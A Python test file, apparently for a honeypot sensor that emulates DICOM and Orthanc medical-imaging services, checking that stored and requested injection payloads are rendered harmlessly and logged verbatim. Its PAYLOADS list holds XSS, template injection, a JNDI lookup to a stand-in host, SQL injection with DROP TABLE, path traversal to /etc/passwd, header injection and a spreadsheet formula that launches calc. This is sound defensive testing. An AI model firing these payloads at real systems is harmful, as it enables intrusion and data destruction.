"""What is stored through the DICOM door with attacks in its texts: text on every face, and kept as it was sent."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
import uvloop
from pydicom.dataset import Dataset
from pydicom.uid import ExplicitVRLittleEndian
from pynetdicom import build_context

from tests.sensor.proxy import new_address
from tests.sensor.scu import STUDY_FIND, associate, find, keys
from tests.sensor.web.conftest import WebSensor
from tests.sensor.web.crowd import Portal
from tests.sensor.web.orthanc.client import part10, secondary_capture, walked
from tests.sensor.web.test_isolation import BASIC, SC, ask, orthanc_ids, visitor_of
from tests.sensor.web.test_isolation import Object as Named
from tests.support import Sensor, at

PAYLOADS = (
    "<script>zq7x(1)</script>",
    "\"'><img src=x onerror=zq7x()>",
    "</td></table><svg/onload=zq7x()>",
    "javascript:zq7x()",
    "{{7*7}}{%import os%}",
    "${jndi:ldap://h.example/z}",
    "' OR '1'='1' --",
    "'; DROP TABLE study; --",
    "../../../../etc/passwd",
    "%0d%0aSet-Cookie: z=1",
    "%s%n{0.__class__}",
    "=cmd|' /C calc'!A0",
)
FIELDS = {"StudyDescription": 64, "SeriesDescription": 64, "ReferringPhysicianName": 64, "InstitutionName": 64}
FIELDS |= {"AccessionNumber": 16, "StudyID": 16, "ProtocolName": 64, "ImageComments": 200}
UNSAFE = re.compile(r"<script>zq7x|<img src=x|<svg/onload|>\s*49\s*<|root:x:0", re.IGNORECASE)


def stored(sensor: Sensor, ip: str) -> list[tuple[str, Dataset, Named]]:
    """One object for each payload, from `ip`, with it in all its texts."""
    found = []
    with associate(sensor.address, [build_context(SC, [ExplicitVRLittleEndian])], ip=ip) as association:
        for payload in PAYLOADS:
            dataset = secondary_capture(PatientName=payload[:64], StudyDate="20240105", StudyTime="101112")
            for name, most in FIELDS.items():
                setattr(dataset, name, payload[:most])
            part10(dataset)
            assert association.send_c_store(dataset).Status == 0, payload
            uids = (dataset.StudyInstanceUID, dataset.SeriesInstanceUID, dataset.SOPInstanceUID)
            found.append((payload, dataset, Named(str(dataset.PatientID), *map(str, uids))))
    return found


def texts(value: Any) -> Iterator[str]:
    """All texts in a JSON value."""
    return (each for each in walked(value) if isinstance(each, str))


def test_on_the_portal_in_dicomweb_and_in_c_find(web_sensor: WebSensor) -> None:
    sensor, ip = web_sensor("plain"), new_address()
    objects = stored(sensor, ip)
    portal = Portal(sensor.data, [])

    async def story() -> None:
        visitor = visitor_of(sensor, ip)
        await portal.sign_in(visitor, "administrator")
        for payload, _, one in objects:
            uids = {"study": one.study, "series": one.series}
            pages = [portal.href(page, **uids) for page in ("study", "viewer", "report", "print")]
            pages.append(portal.href("worklist", identifier=one.patient, period="all"))
            pages.append(portal.href("worklist", name=payload, text=payload, period="all", sort=payload))
            for page in pages:
                got = await ask(visitor, "GET", page)
                assert got.status in (200, 404), page
                assert not UNSAFE.search(got.text), page
                assert "zq7x" not in "".join(f"{name}{value}" for name, value in got.headers.items())
            download = await ask(visitor, "GET", portal.href("download", study=one.study))
            assert re.fullmatch(r'attachment; filename="?[\w.-]+"?.*', download.headers["content-disposition"])
            base = f"/dicom-web/studies/{one.study}"
            for path in (f"/dicom-web/studies?PatientID={one.patient}&includefield=all", f"{base}/metadata"):
                got = await ask(visitor, "GET", path, Accept="application/dicom+json")
                assert got.headers["content-type"].startswith("application/dicom+json")
                assert payload.rstrip()[:64] in texts(got.json), path
            xml = await ask(
                visitor, "GET", f"{base}/metadata", Accept='multipart/related; type="application/dicom+xml"'
            )
            assert xml.headers["content-type"].startswith("multipart/related")
            assert not UNSAFE.search(xml.text)

    uvloop.run(story())
    with associate(sensor.address, [STUDY_FIND], ip=ip) as association:
        for payload, _, one in objects:
            wanted = keys(QueryRetrieveLevel="STUDY", StudyInstanceUID=one.study, PatientName="")
            ((match,), _) = find(association, wanted)
            assert str(match.PatientName) == payload
    for payload, dataset, _ in objects:
        event = sensor.wait_event("dicom.c-store", dicom__sop__instance_uid=str(dataset.SOPInstanceUID))
        digest = at(event, "file.hash.sha256")
        kept = next(path for path in (sensor.data / "vault").rglob(f"{digest}*") if path.is_file())
        data = kept.read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest and payload[:16].encode() in data
    sensor.check()


def test_on_orthanc(web_sensor: WebSensor) -> None:
    sensor, ip = web_sensor("orthanc"), new_address()
    objects = stored(sensor, ip)

    async def story() -> None:
        visitor = visitor_of(sensor, ip)
        visitor.headers["Authorization"] = BASIC
        for payload, _, one in objects:
            ids = orthanc_ids(one)
            for level, name in ids.items():
                got = await ask(visitor, "GET", f"/{level}/{name}")
                assert got.headers["content-type"].startswith("application/json"), level
            tags = await ask(visitor, "GET", f"/instances/{ids['instances']}/simplified-tags")
            assert tags.json["PatientName"] == payload and tags.json["StudyDescription"] == payload
            content = await ask(visitor, "GET", f"/instances/{ids['instances']}/content/0010-0010")
            assert content.body.rstrip(b"\0 ") == payload.encode()
            assert "html" not in content.headers.get("content-type", "")
            wanted = {"Level": "Study", "Query": {"StudyInstanceUID": one.study}, "Expand": True}
            found = await ask(visitor, "POST", "/tools/find", json.dumps(wanted).encode())
            assert payload in texts(found.json)
            archive = await ask(visitor, "GET", f"/studies/{ids['studies']}/archive")
            assert archive.headers["content-type"] == "application/zip" and b"../" not in archive.body
            dav = await ask(visitor, "PROPFIND", "/webdav/by-patients/", Depth="1")
            assert not UNSAFE.search(dav.text)

    uvloop.run(story())
    sensor.check()


@pytest.mark.parametrize("persona", ["plain", "orthanc"])
def test_in_addresses_fields_and_credentials(web_sensor: WebSensor, persona: str) -> None:
    """They come to nothing, and each is on record as it was sent."""
    sensor, ip = web_sensor(persona), new_address()

    async def story() -> None:
        visitor = visitor_of(sensor, ip)
        for payload in PAYLOADS:
            word = quote(payload, safe="")
            for target in (f"/{word}", f"/dicom-web/studies?PatientName={word}&{word}={word}", f"/wado?{word}"):
                got = await ask(visitor, "GET", target, User_Agent=payload, Referer=payload, Cookie=f"a={payload}")
                assert got.status in (200, 204, 302, 400, 401, 404), (target, got.status)
                assert not UNSAFE.search(got.text), target
                assert "zq7x" not in "".join(got.headers.values()), target

    uvloop.run(story())
    sensor.wait_events("http.request", 3 * len(PAYLOADS), source__ip=ip)
    asked = sensor.events(event__action="http.request", source__ip=ip)
    assert {at(event, "user_agent.original") for event in asked} == set(PAYLOADS)
    assert {f"/{quote(payload, safe='')}" for payload in PAYLOADS} < {at(event, "url.original") for event in asked}
    sensor.check()
